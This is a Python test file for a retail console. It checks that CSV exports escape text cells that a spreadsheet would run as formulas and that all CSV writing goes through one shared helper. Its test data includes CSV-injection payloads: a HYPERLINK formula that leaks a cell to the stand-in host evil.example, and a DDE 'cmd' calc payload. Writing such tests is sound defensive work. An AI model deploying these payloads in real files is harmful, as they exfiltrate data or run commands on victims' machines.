"""Every CSV the console exports neutralises a text cell a spreadsheet would run as a formula; numbers stay numbers."""

import csv
import io
import pathlib

from hq.services import csv_export
from hq.services.operators import audit
from hq.storage import db
from tests.console.console_helpers import post

SEGMENTS = ("important_value", "important_retain", "important_develop", "important_win_back", "general_value",
            "general_retain", "general_develop", "general_win_back")  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"prize")', "-Cmd", "+1+cmd|' /C calc'!A0", "@SUM(1)",
            "\tTabbed", "\rReturned"]  # fmt: skip


def rows_of(response) -> list[dict]:
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"), newline="")))


def test_formulas_in_member_names_and_audit_targets_come_out_as_text_and_numbers_stay_numbers(chain, as_role):
    codes = {}
    for name in FORMULAS:  # a till refuses such names; an old import could have written them
        code = chain.member("S001", "Placeholder", marketing=True)
        chain.execute("UPDATE members SET name = :n WHERE member_code = :c", n=name, c=code)
        chain.buy("S001", code, 9_000)
        codes[code] = name
    client = as_role("mkt")
    rows = [r for s in SEGMENTS for r in rows_of(client.get(f"/console/rfm/{s}.csv"))]
    names = {r["member_code"]: r["name"] for r in rows}
    assert names == {code: "'" + name for code, name in codes.items()}
    assert {r["spend_cents"] for r in rows} == {"9000"}  # numbers are written as numbers
    assert all(r["phone"].startswith("'+886") for r in rows)  # E.164 starts with '+': text, not a sum

    db.write(chain.engine, lambda conn: audit.record(conn, chain.clock(), "admin", "member.adjust", "=1+2",
                                                     {"balance": -50}, {"balance": -40}))  # fmt: skip
    code = chain.member("S001", "Ann Chen")  # 100 sign-up points
    post(as_role("fin"), f"/console/members/{code}", f"/console/members/{code}/adjust",
         {"points": "-5", "reason": "-typo"})
    rows = rows_of(as_role("aud").get("/console/audit.csv"))
    targets = {r["target"] for r in rows}
    assert "'=1+2" in targets and "=1+2" not in targets
    assert all(r["id"].isdigit() for r in rows)
    adjust = next(r for r in rows if r["target"] == code)
    assert adjust["username"] == "fin" and '"balance": 95' in adjust["after"]  # JSON cells start with '{'


def test_the_shared_helper_quotes_only_text_that_starts_like_a_formula():
    assert [csv_export.cell(v) for v in ("=A1", "+1", "-x", "@x", "\tx", "\rx", "a=b", "", None)] == [
        "'=A1", "'+1", "'-x", "'@x", "'\tx", "'\rx", "a=b", "", ""]  # fmt: skip
    assert [csv_export.cell(v) for v in (-50, 0, 7)] == [-50, 0, 7]
    assert csv_export.to_csv(("points", "note"), [(-50, "-50")]) == "points,note\r\n-50,'-50\r\n"


def test_every_csv_hq_writes_goes_through_the_shared_helper():
    hq = pathlib.Path(csv_export.__file__).parents[1]
    writers = [p.relative_to(hq).as_posix() for p in hq.rglob("*.py") if "csv.writer" in p.read_text(encoding="utf-8")
               or "DictWriter" in p.read_text(encoding="utf-8")]  # fmt: skip
    assert writers == ["services/csv_export.py"]
